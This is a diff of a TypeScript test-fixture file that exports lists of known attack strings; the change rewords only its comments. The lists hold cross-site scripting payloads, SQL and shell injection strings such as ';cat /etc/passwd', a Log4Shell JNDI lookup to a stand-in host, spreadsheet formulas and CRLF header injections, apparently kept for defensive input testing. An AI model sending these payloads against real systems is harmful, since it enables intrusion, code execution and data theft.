@@ -1,6 +1,6 @@
-/** Texts by which others have broken into services; each is short enough for every field. */
+/** Texts from known attacks. Each fits into every field. */
 
-/** HTML that would act by itself, or that becomes such HTML where it is read a second time. */
+/** HTML that would run, or that becomes such HTML when it is parsed again. */
 export const MARKUP = [
   ...['<script>alert(1)</script>', '<ScRiPt/src=//e.test>', '</script><script>alert(1)</script>', '<script'],
   ...['<img src=x onerror=alert(1)>', '<img/src="x"/onerror=alert(1)>', '<b onclick=alert(1)>b</b>'],
@@ -20,7 +20,7 @@ export const MARKUP = [
   ...['<meta http-equiv=refresh content="0;url=javascript:1">', '<link rel=stylesheet href="//e.test">'],
   ...['<object data="x.swf"></object><embed src="x">', '<details open ontoggle=alert(1)>d</details>'],
   ...['<a target=_blank href="http://e.test">a</a>', '<a id=config name=config>a</a>'],
-  // What a parser of another mind reads otherwise.
+  // Markup that parsers read differently.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
@@ -48,7 +48,7 @@ export const MARKUP = [
   ],
 ];
 
-/** What other languages than HTML would take for more than text. */
+/** Texts with a meaning in other languages than HTML. */
 export const CODE = [
   ...[
     "' or '1'='1",
@@ -69,12 +69,12 @@ export const CODE = [
     ';cat /etc/passwd',
     '`id`',
     '$(id)',
-    // Written so that it is not taken for a placeholder here.
+    // Written in two parts, so that the linter does not take it for a placeholder.
     `$\{jndi:ldap://e.test/a}`.replace('\\', ''),
   ],
 ];
 
-/** What a spreadsheet would work out; of these the first character counts. */
+/** Formulas of spreadsheets, which begin with these characters. */
 export const FORMULAS = [
   ...[
     '=1+1',
@@ -89,7 +89,7 @@ export const FORMULAS = [
   ],
 ];
 
-/** What steers terminals, logs and headers, and what looks like something else. */
+/** Control sequences for terminals, logs and headers, and look-alikes. */
 export const STEERING = [
   ...[
     '\r\nX-Injected: 1',
